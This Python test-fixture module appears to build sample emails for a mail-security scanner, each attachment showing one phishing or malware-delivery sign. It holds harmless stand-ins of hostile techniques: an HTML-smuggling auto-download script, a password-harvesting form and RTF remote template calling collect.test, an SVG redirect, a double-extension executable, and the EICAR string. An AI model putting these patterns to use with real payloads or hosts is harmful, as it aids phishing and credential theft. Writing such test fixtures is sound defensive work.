"""Builds what messages carry: every file is harmless, and shows one sign (or none)."""

import base64
import io
import zipfile
from email.message import EmailMessage

import pikepdf
import zxingcpp
from pikepdf import Array, Dictionary, Name
from PIL import Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SHORTCUT = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60)
NOTEBOOK = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(100)
PROGRAM = b"MZ" + bytes(60)
DISK = bytes(0x8001) + b"CD001" + bytes(2_000) + SHORTCUT
SMUGGLING = (
    b"<html><script>var file = atob('"
    + base64.b64encode(bytes(1_200))
    + b"'); link.href = URL.createObjectURL(new Blob([file])); link.download = 'eob.zip'; link.click()</script></html>"
)
PASSWORD_PAGE = b"<html><form action='https://collect.test/p'><input type='password' name='p'></form></html>"
DRAWING = b"<svg xmlns='http://www.w3.org/2000/svg'><script>top.location='https://collect.test'</script></svg>"
TEMPLATE_RTF = rb"{\rtf1{\*\template https://collect.test/t.dotm}hello}"


def message(*files, text="Hello", sender="Somebody <somebody@stranger.test>", **headers):
    """The bytes of a message with these files: (name, declared type, content)."""
    built = EmailMessage()
    built["From"], built["To"], built["Subject"] = sender, "billing@lanternhill.example", "Papers"
    for name, value in headers.items():
        built[name.replace("_", "-")] = value
    built.set_content(text)
    for name, declared, content in files:
        main, _slash, sub = declared.partition("/")
        built.add_attachment(content, maintype=main, subtype=sub, filename=name)
    return built.as_bytes()


def zipped(files):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return packed.getvalue()


def locked(files):
    """A zip that says that its files are encrypted; they are not, and no password opens them."""
    body = bytearray(zipped(files))
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = body.find(mark)
        while at >= 0:
            body[at + flags] |= 1
            at = body.find(mark, at + 4)
    return bytes(body)


def document(**more):
    """The least that is an Office document, and more files by their path."""
    return zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>", **more})


def macros():
    return document(**{"word/vbaProject.bin": "no macro: a stub"})


def pdf(*, action=None, links=(), password="", carried=None, picture=None, pages=1):
    with pikepdf.new() as paper:
        for _page in range(pages):
            paper.add_blank_page()
        if action:
            paper.Root.OpenAction = paper.make_indirect(Dictionary(action))
        if links:
            paper.pages[0].obj.Annots = Array([_link(paper, link) for link in links])
        if carried:
            paper.attachments[carried[0]] = pikepdf.AttachedFileSpec(paper, carried[1], filename=carried[0])
        if picture:
            drawn = paper.make_stream(picture.tobytes())
            drawn.Type, drawn.Subtype, drawn.ColorSpace, drawn.BitsPerComponent = (
                Name.XObject, Name.Image, Name.DeviceGray, 8,
            )  # fmt: skip
            drawn.Width, drawn.Height = picture.size
            paper.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=drawn))
        saved = io.BytesIO()
        lock = pikepdf.Encryption(owner=password, user=password) if password else None
        paper.save(saved, encryption=lock)
    return saved.getvalue()


def _link(paper, link):
    goes = Dictionary(S=Name.URI, URI=pikepdf.String(link))
    return paper.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=goes))


def code(text):
    """A picture of a QR code."""
    drawn = zxingcpp.create_barcode(text, zxingcpp.BarcodeFormat.QRCode).to_image(scale=6)
    return Image.fromarray(drawn).convert("L")


def png(picture):
    saved = io.BytesIO()
    picture.save(saved, "PNG")
    return saved.getvalue()


def invitation(link=""):
    lines = ("BEGIN:VCALENDAR", "VERSION:2.0", "BEGIN:VEVENT", "UID:1@test", f"DESCRIPTION:Talk {link}".strip(),
             "END:VEVENT", "END:VCALENDAR", "")  # fmt: skip
    return "\r\n".join(lines).encode()


_ZIP, _PDF, _BYTES = "application/zip", "application/pdf", "application/octet-stream"
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"

# The word behind `Attach:` in a letter -> (name if none is given, declared type, content by the words that follow).
KINDS = {
    "smuggling": ("EOB.html", "text/html", lambda *_: SMUGGLING),
    "password-page": ("Voice.htm", "text/html", lambda *_: PASSWORD_PAGE),
    "svg": ("List.svg", "image/svg+xml", lambda *_: DRAWING),
    "script-zip": ("Papers.zip", _ZIP, lambda *_: zipped({"open_me.js": "// nothing"})),
    "lnk-zip": ("CV.zip", _ZIP, lambda *_: zipped({"CV.pdf.lnk": SHORTCUT})),
    "locked-zip": ("Papers.zip", _ZIP, lambda *_: locked({"notice.doc": "nothing"})),
    "lnk-iso": ("Fax.iso", _BYTES, lambda *_: DISK),
    "onenote": ("Invoice.one", _BYTES, lambda *_: NOTEBOOK),
    "double": ("Update.pdf.exe", _BYTES, lambda *_: PROGRAM),
    "macro": ("Papers.docm", _BYTES, lambda *_: macros()),
    "rtf-template": ("Statement.rtf", "application/rtf", lambda *_: TEMPLATE_RTF),
    "qr": ("code.png", "image/png", lambda link: png(code(link))),
    "qr-pdf": ("Letter.pdf", _PDF, lambda link: pdf(picture=code(link))),
    "link-pdf": ("Paper.pdf", _PDF, lambda *_: pdf(links=["https://secured-copy.test/view"])),
    "plain-pdf": ("Paper.pdf", _PDF, lambda *_: pdf(pages=2)),
    "docx": ("Paper.docx", _WORD, lambda *_: document()),
    "csv": ("table.csv", "text/csv", lambda *_: b"check,amount\n440192,96.00\n440193,-12.50\n"),
    "picture": ("picture.png", "image/png", lambda *_: png(Image.new("RGB", (60, 40), "steelblue"))),
    "invitation": ("invite.ics", "text/calendar", invitation),
    "plain-invitation": ("invite.ics", "text/calendar", lambda *_: invitation()),
}


def attached(words):
    """What `Attach: kind [name] [link]` means: (name, declared type, content)."""
    kind, *rest = words.split()
    usual, declared, content = KINDS[kind]
    links = [word for word in rest if "://" in word]
    names = [word for word in rest if "://" not in word]
    return (names or [usual])[0], declared, content(*links)
